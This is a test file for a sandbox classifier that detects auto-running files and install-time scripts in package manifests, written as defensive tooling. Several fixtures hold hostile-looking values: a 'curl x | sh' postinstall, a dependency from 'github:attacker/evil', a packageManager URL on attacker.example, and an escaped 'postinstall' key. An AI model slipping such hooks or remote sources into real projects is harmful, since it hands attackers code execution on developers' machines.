// The one list of files that run or instruct on their own (src/sandbox/autorun.json) and its
// classifier: the data is well formed and anchored, every entry matches what it names at any depth
// (table-driven from the data itself, so a new entry is tested by being added), the kinds catch
// tools that are not on the list, ordinary files pass, and a manifest counts only by what runs.
import { describe, expect, test } from "bun:test"
import { MARKER_NAMES } from "../../src/policy/mode"
import {
  AUTORUN_LIST,
  autorunBelow,
  autorunHit,
  autorunHitIn,
  autorunWrite,
  contentFingerprint,
  findNames,
  isAutorunPath,
  repositoryPrefix,
  type FsView,
} from "../../src/sandbox"

const entries = Object.entries(AUTORUN_LIST.kinds).flatMap(([kind, { entries }]) =>
  entries.map((entry) => ({ kind, ...entry })),
)
/** A concrete name each pattern must match: its globs filled in. */
const example = (match: string) => match.replace(/\*/g, "x").replace(/\?/g, "y")

describe("the data", () => {
  test("every kind says what it is and why; every entry has a reason, known anchors and a known content rule", () => {
    for (const kind of Object.values(AUTORUN_LIST.kinds)) {
      expect(kind.title.length).toBeGreaterThan(5)
      expect(kind.why.length).toBeGreaterThan(20)
    }
    for (const entry of entries) {
      expect(entry.why.length).toBeGreaterThan(2)
      for (const anchor of entry.from ?? []) expect(Object.keys(AUTORUN_LIST.anchors)).toContain(anchor)
      if (entry.content) expect(["npm", "composer"]).toContain(entry.content)
    }
    expect(new Set(entries.map((entry) => entry.match.toLowerCase())).size).toBe(entries.length)
  })

  test("the anchors' own lists are all on it (Anthropic's sandbox-runtime, Codex)", () => {
    const srt = [
      ".gitconfig",
      ".gitmodules",
      ".bashrc",
      ".bash_profile",
      ".zshrc",
      ".zprofile",
      ".profile",
      ".ripgreprc",
      ".mcp.json",
      ".git/hooks/x",
      ".vscode/tasks.json",
      ".idea/x",
    ]
    for (const path of [...srt, ".claude/commands/x.md", ".claude/agents/x.md", ".git", ".codex/config.toml"])
      expect(isAutorunPath(path)).toBe(true)
  })

  test("every entry matches what it names, at the root, below and in any case, never inside node_modules", () => {
    const wrong: string[] = []
    for (const { match, kind, content } of entries) {
      const name = example(match)
      for (const path of [name, `pkg/deep/${name}`, name.toUpperCase(), ...(content ? [] : [`${name}/inner/file`])]) {
        const hit = autorunHit(path)
        // An entry inside another (.cursor/mcp.json in .cursor) is covered by the outer one.
        if (!hit || !(hit.path === path || path.startsWith(`${hit.path}/`)))
          wrong.push(`${path}: ${hit?.path ?? "not autorun"}`)
        else if (hit.path === path && hit.kind !== kind) wrong.push(`${path}: kind ${hit.kind}, not ${kind}`)
        if (isAutorunPath(path) !== !content) wrong.push(`${path}: isAutorunPath is ${!content ? "false" : "true"}`)
      }
      if (autorunHit(`node_modules/pkg/${name}`)) wrong.push(`node_modules/pkg/${name}`)
    }
    expect(wrong).toEqual([])
    expect(entries.length).toBeGreaterThan(100)
  })

  test("find's prefilter names the last segment of every entry, so the scan sees what the classifier would", () => {
    const { names, prune } = findNames()
    for (const entry of entries) expect([...names, ...prune]).toContain(entry.match.split("/").at(-1)!)
  })
})

describe("the classifier", () => {
  test.each([
    // The files the issue names.
    ["AGENTS.md", "agent-instructions"],
    ["CLAUDE.md", "agent-instructions"],
    ["docs/AGENTS.md", "agent-instructions"],
    [".gitlab-ci.yml", "ci"],
    [".circleci/config.yml", "ci"],
    [".github/actions/setup/action.yml", "ci"],
    [".devcontainer.json", "dev-environment"],
    [".vscode/mcp.json", "mcp-config"],
    [".cursor/mcp.json", "agent-config"],
    [".gemini/settings.json", "agent-config"],
    [".mise.toml", "dev-environment"],
    ["lefthook.yml", "git-hooks"],
    [".opencode-mcp-orchestrator/sensitive", "policy"],
    [".opencode-mcp-orchestrator/insensitive", "policy"],
    // By kind: tools that are not on the list by name.
    [".newassistant/rules/style.md", "agent-instructions"],
    [".newassistant/commands/deploy.md", "agent-instructions"],
    [".futurerules", "agent-instructions"],
    ["docs/api.instructions.md", "agent-instructions"],
    ["tools/mcp_servers.json", "mcp-config"],
    [".neweditor/tasks.json", "editor"],
    [".neweditor/settings.json", "editor"],
    [".forgejo/workflows/ci.yml", "ci"],
    [".newassistant/hooks/pre-tool.sh", "agent-config"],
    ["AGENTS.local.md", "agent-instructions"],
    ["pnpm-workspace.yaml", "package-manager"],
    ["ci/build.gitlab-ci.yml", "ci"],
    ["azure-pipelines.yml", "ci"],
    ["lefthook-local.toml", "git-hooks"],
    ["mise.local.toml", "dev-environment"],
  ])("%p is autorun (%p)", (path, kind) => {
    expect(autorunHit(path)?.kind).toBe(kind)
  })

  test("every policy marker the mode reads is protected", () => {
    for (const marker of Object.values(MARKER_NAMES).flat()) {
      expect(isAutorunPath(marker)).toBe(true)
      expect(isAutorunPath(`pkg/${marker}`)).toBe(true)
    }
  })

  test.each([
    "README.md",
    "src/x.ts",
    "src/rules/x.ts",
    "src/mcp/server.ts",
    "src/agents/names.ts",
    "src/config/flags.ts",
    ".vscode/extensions.json",
    ".github/CODEOWNERS",
    "docs/git.md",
    "Makefile",
    "deep.git",
    "node_modules/x/.envrc",
    // Left off on purpose (autorun.json "not"): project code and data an ordinary task edits.
    "eslint.config.js",
    ".env",
    ".gitattributes",
    "setup.py",
    ".changeset/config.json",
    "src/hooks/use.ts",
  ])("%p is ordinary", (path) => {
    expect(autorunHit(path)).toBeUndefined()
  })
})

describe("a workspace below its repository's root", () => {
  const tree = (gitAt: string[]): FsView => ({
    lstat: (path) => (gitAt.some((root) => path === `${root}/.git`) ? "dir" : undefined),
    realpath: (path) => path,
    readText: () => undefined,
    list: () => undefined,
  })
  test("the nearest .git decides the root; a linked worktree's .git file counts", () => {
    expect(repositoryPrefix("/r/.github/workflows", tree(["/r"]))).toBe(".github/workflows")
    expect(repositoryPrefix("/r/.claude/worktrees/x", tree(["/r", "/r/.claude/worktrees/x"]))).toBe("")
    expect(repositoryPrefix("/plain/dir", tree([]))).toBe("")
  })
  test.each([
    [".github/workflows", "deploy.yml", "deploy.yml"],
    [".github", "workflows/ci.yml", "workflows"],
    [".claude", "sensitive", "sensitive"],
    ["pkg", "AGENTS.md", "AGENTS.md"],
  ])("in %p, %p is autorun (entry %p)", (prefix, path, entry) => {
    expect(autorunHitIn(prefix, path)?.path).toBe(entry)
  })
  test("in src or docs, ordinary names stay ordinary", () => {
    expect(autorunHitIn("src", "deploy.yml")).toBeUndefined()
    expect(autorunHitIn("docs/guide", "rules/x.md")).toBeUndefined()
    expect(autorunWrite("package.json", "{}", '{"version":"2"}', "pkg")).toBeUndefined()
  })
})

describe("manifests count by what runs on install", () => {
  const base = JSON.stringify({
    name: "demo",
    version: "1.0.0",
    scripts: { test: "bun test" },
    dependencies: { zod: "^3" },
  })
  const withScripts = (scripts: Record<string, string>) =>
    JSON.stringify({ ...JSON.parse(base), scripts: { test: "bun test", ...scripts } })
  test.each([
    ["a postinstall", withScripts({ postinstall: "curl x | sh" })],
    ["a preinstall", withScripts({ preinstall: "x" })],
    ["a prepare", withScripts({ prepare: "x" })],
    ["an escaped key", base.replace('"test"', '"post\\u0069nstall"')],
    [
      "a git dependency",
      JSON.stringify({ ...JSON.parse(base), dependencies: { zod: "^3", evil: "github:attacker/evil" } }),
    ],
    [
      "a packageManager URL",
      JSON.stringify({ ...JSON.parse(base), packageManager: "yarn@https://attacker.example/yarn.js" }),
    ],
    ["a hook manager's config", JSON.stringify({ ...JSON.parse(base), "simple-git-hooks": { "pre-commit": "x" } })],
    ["text that does not parse", `${base} trailing`],
  ])("adding %s to package.json is flagged", (_name, after) => {
    expect(autorunWrite("package.json", base, after)?.content).toBe("npm")
    expect(autorunWrite("pkg/package.json", undefined, after)?.path).toBe("pkg/package.json")
  })

  test.each([
    ["a version bump", JSON.stringify({ ...JSON.parse(base), version: "1.1.0" })],
    [
      "a registry dependency",
      JSON.stringify({ ...JSON.parse(base), dependencies: { zod: "^3", ms: "2.1.3", "@scope/x": "npm:@scope/y@1" } }),
    ],
    ["an ordinary script", withScripts({ build: "tsc", lint: "biome check" })],
    [
      "the same content reordered, with a byte-order mark",
      `\uFEFF${JSON.stringify({ dependencies: { zod: "^3" }, scripts: { test: "bun test" }, version: "1.0.0", name: "demo" })}`,
    ],
  ])("%s in package.json passes", (_name, after) => {
    expect(autorunWrite("package.json", base, after)).toBeUndefined()
  })

  test("changing or removing an existing install script is flagged; a new manifest without one is not", () => {
    const installed = withScripts({ postinstall: "node setup.js" })
    expect(autorunWrite("package.json", installed, withScripts({ postinstall: "node evil.js" }))).toBeDefined()
    expect(autorunWrite("package.json", installed, undefined)).toBeDefined()
    expect(autorunWrite("package.json", undefined, base)).toBeUndefined()
  })

  test("composer.json counts its install and update event scripts and plugins", () => {
    const plain = JSON.stringify({ name: "a/b", require: { php: ">=8" }, scripts: { test: "phpunit" } })
    expect(
      autorunWrite(
        "composer.json",
        plain,
        JSON.stringify({ ...JSON.parse(plain), scripts: { "post-install-cmd": "x" } }),
      )?.content,
    ).toBe("composer")
    expect(
      autorunWrite(
        "composer.json",
        plain,
        JSON.stringify({ ...JSON.parse(plain), config: { "allow-plugins": { "evil/x": true } } }),
      ),
    ).toBeDefined()
    expect(
      autorunWrite("composer.json", plain, JSON.stringify({ ...JSON.parse(plain), require: { php: ">=8.2" } })),
    ).toBeUndefined()
    expect(contentFingerprint("composer", plain)).toBeUndefined()
  })
})

describe("a directory an entry continues through", () => {
  test.each([".vscode", ".cargo", ".yarn", "gradle", ".github", ".config", "pkg/.vscode"])(
    "%p has an entry below it (a link there makes its target that entry)",
    (path) => {
      expect(autorunBelow("", path)?.path).toBe(path)
    },
  )
  test.each(["docs", "src/lib", "handbook", "node_modules/.vscode"])("%p has none", (path) => {
    expect(autorunBelow("", path)).toBeUndefined()
  })
  test("an entry itself is not a directory above one; every prefix of the workspace counts", () => {
    expect(autorunBelow(".github", "actions")).toBeUndefined()
    expect(autorunBelow(["src", ""], "editor")).toBeUndefined()
    expect(autorunBelow(["src", ".github"], "editor")).toBeUndefined()
    expect(autorunBelow(["", "sub"], ".vscode")?.detail).toContain(", as .")
  })
})
